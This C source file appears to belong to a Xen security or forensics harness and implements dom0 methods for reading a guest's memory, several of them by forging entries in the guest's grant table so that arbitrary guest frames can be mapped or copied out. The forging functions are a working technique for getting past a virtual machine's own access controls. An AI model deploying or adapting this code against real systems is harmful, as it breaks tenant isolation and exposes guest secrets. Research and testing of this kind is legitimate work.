/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * Grants: those that the guest made, and some that dom0 makes in the guest's
 * name by writing to its grant table.
 */
#include "lib/intruder/method.h"

#include <errno.h>
#include <inttypes.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <xengnttab.h>

#include "lib/dom0/xenlog.h"

#define ENTRIES (FBC_PAGE / sizeof(grant_entry_v1_t))

struct forger {
    struct fbc_victim *t;
    xengnttab_handle *gnt;
    grant_entry_v1_t *table;    /* first page of the guest's */
    uint32_t ref;               /* an entry that is free */
};

/* 0, or an errno: page of the guest behind a reference. */
static int map_ref(xengnttab_handle *gnt, uint16_t domid, uint32_t ref,
                   uint8_t page[static FBC_PAGE])
{
    void *p = xengnttab_map_grant_ref(gnt, domid, ref, PROT_READ);

    if ( !p )
        return errno ?: EINVAL;
    memcpy(page, p, FBC_PAGE);
    xengnttab_unmap(gnt, p, 1);

    return 0;
}

static int copy_ref(xengnttab_handle *gnt, uint16_t domid, uint32_t ref,
                    uint8_t page[static FBC_PAGE])
{
    xengnttab_grant_copy_segment_t s = {
        .source.foreign = { .ref = ref, .domid = domid },
        .dest.virt = page, .len = FBC_PAGE, .flags = GNTCOPY_source_gref,
    };

    if ( xengnttab_grant_copy(gnt, 1, &s) )
        return errno ?: EINVAL;

    return s.status == GNTST_okay ? 0 :
           s.status == GNTST_permission_denied ? EPERM : EINVAL;
}

static int forged(const struct forger *f, uint64_t frame,
                  int (*get)(xengnttab_handle *gnt, uint16_t domid,
                             uint32_t ref, uint8_t page[static FBC_PAGE]),
                  uint8_t page[static FBC_PAGE])
{
    volatile grant_entry_v1_t *e = &f->table[f->ref];
    int rc;

    e->domid = 0;
    e->frame = (uint32_t)frame;
    __sync_synchronize();
    e->flags = GTF_permit_access | GTF_readonly;
    __sync_synchronize();
    rc = get(f->gnt, f->t->domid, f->ref, page);
    e->flags = 0;
    __sync_synchronize();
    e->frame = 0;

    return rc;
}

static int read_mapped(void *arg, uint64_t frame,
                       uint8_t page[static FBC_PAGE])
{
    return forged(arg, frame, map_ref, page);
}

static int read_copied(void *arg, uint64_t frame,
                       uint8_t page[static FBC_PAGE])
{
    return forged(arg, frame, copy_ref, page);
}

static void forge(struct fbc_method_run *r, grant_entry_v1_t *table,
                  fbc_page_reader *read)
{
    struct forger f = { .t = r->t, .table = table, .ref = ENTRIES - 1 };

    while ( f.ref && table[f.ref].flags )
        f.ref--;
    if ( f.ref <= GNTTAB_RESERVED_XENSTORE )
        return fbc_method_say(r, FBC_METHOD_NOTHING, "no free entry");

    f.gnt = xengnttab_open(&fbc_xenlog, 0);
    if ( !f.gnt )
        return fbc_method_errno(r, errno, "grant device");
    fbc_method_walk(r, read, &f);
    xengnttab_close(f.gnt);
}

/* The table's own page is handed out as a resource. */
static void forge_resource(struct fbc_method_run *r, fbc_page_reader *read)
{
    xenforeignmemory_resource_handle *h;
    void *table = NULL;

    h = xenforeignmemory_map_resource(r->t->fmem, r->t->domid,
                                      XENMEM_resource_grant_table,
                                      XENMEM_resource_grant_table_id_shared,
                                      0, 1, &table, PROT_READ | PROT_WRITE,
                                      0);
    if ( !h )
        return fbc_method_errno(r, errno, "the guest's grant table");
    forge(r, table, read);
    xenforeignmemory_unmap_resource(r->t->fmem, h);
}

void fbc_method_forge(struct fbc_method_run *r)
{
    forge_resource(r, read_mapped);
}

void fbc_method_forgecopy(struct fbc_method_run *r)
{
    forge_resource(r, read_copied);
}

struct setup {
    gnttab_setup_table_t op;
    xen_pfn_t frame;
};

/* The table's frame number is asked for, and mapped as a foreign page. */
void fbc_method_setuptable(struct fbc_method_run *r)
{
    struct setup *s = xencall_alloc_buffer(r->t->call, sizeof(*s));
    void *table = NULL;
    int err = 0;

    if ( !s )
        return fbc_method_errno(r, errno, "memory");
    memset(s, 0, sizeof(*s));
    s->op.dom = r->t->domid;
    s->op.nr_frames = 1;
    set_xen_guest_handle_raw(s->op.frame_list, &s->frame);
    if ( xencall3(r->t->call, __HYPERVISOR_grant_table_op,
                  GNTTABOP_setup_table, (uintptr_t)s, 1) )
        fbc_method_errno(r, errno, "setup_table");
    else if ( s->op.status )
        fbc_method_errno(r, s->op.status == GNTST_permission_denied ? EPERM
                         : EINVAL, "setup_table");
    else if ( !(table = xenforeignmemory_map(r->t->fmem, r->t->domid,
                                             PROT_READ | PROT_WRITE, 1,
                                             &s->frame, &err)) || err )
        fbc_method_errno(r, table ? err : errno, "map of the grant table");
    else
        forge(r, table, read_mapped);

    if ( table )
        xenforeignmemory_unmap(r->t->fmem, table, 1);
    xencall_free_buffer(r->t->call, s);
}

/* No forgery: what the guest itself lets dom0 map. */
void fbc_method_grants(struct fbc_method_run *r)
{
    xengnttab_handle *gnt = xengnttab_open(&fbc_xenlog, 0);
    uint8_t page[FBC_PAGE];
    uint32_t ref;
    int err = 0;

    if ( !gnt )
        return fbc_method_errno(r, errno, "grant device");
    for ( ref = 0; ref < ENTRIES; ref++ )
    {
        int rc = map_ref(gnt, r->t->domid, ref, page);

        if ( rc )
            err = rc;
        else if ( fbc_method_put(r, page, FBC_PAGE) )
            break;
    }
    xengnttab_close(gnt);

    if ( r->bytes )
        fbc_method_say(r, FBC_METHOD_FRAMES, "%" PRIu64 " pages",
                       r->bytes / FBC_PAGE);
    else
        fbc_method_errno(r, err, "grants");
}
